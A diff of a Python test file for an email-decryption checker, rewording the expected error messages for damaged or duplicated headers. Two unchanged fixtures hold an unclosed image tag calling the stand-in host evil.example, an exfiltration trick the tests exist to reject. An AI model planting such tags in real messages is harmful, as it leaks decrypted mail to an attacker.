@@ -48,18 +48,18 @@ DAMAGED = {
 def test_a_header_that_some_end_sooner_keeps_the_part_encrypted(name: str, where: str) -> None:
     header = {"root": ROOT, "part": PART, "forward": FORWARD}[where]
     first, _, rest = header.partition(b"\n")
-    with pytest.raises(UnsupportedMessage, match="not the same to all readers"):
+    with pytest.raises(UnsupportedMessage, match="a header around it is damaged"):
         check("1.1", **{where: first + b"\n" + DAMAGED[name] + rest})
 
 
 def test_so_it_does_around_a_whole_message() -> None:
     damaged = b"Subject: x\n<img src='http://evil.example/?\n" + FORWARD
-    with pytest.raises(UnsupportedMessage, match="not the same to all readers"):
+    with pytest.raises(UnsupportedMessage, match="a header around it is damaged"):
         check("", root=damaged)
 
 
 def test_more_lines_than_one_before_the_header_keep_it_encrypted() -> None:
-    with pytest.raises(UnsupportedMessage, match="not the same to all readers"):
+    with pytest.raises(UnsupportedMessage, match="a header around it is damaged"):
         check("", root=b"From alice\n <img src='http://evil.example/?\n" + ROOT)
 
 
@@ -67,7 +67,7 @@ def test_more_lines_than_one_before_the_header_keep_it_encrypted() -> None:
 def test_what_is_around_must_say_once_what_it_is(where: str) -> None:
     header = {"root": ROOT, "part": PART}[where]
     twice = b"Content-Type: text/html\n"
-    with pytest.raises(UnsupportedMessage, match="says twice"):
+    with pytest.raises(UnsupportedMessage, match="says its type twice"):
         check("1.1", **{where: header + twice})
 
 
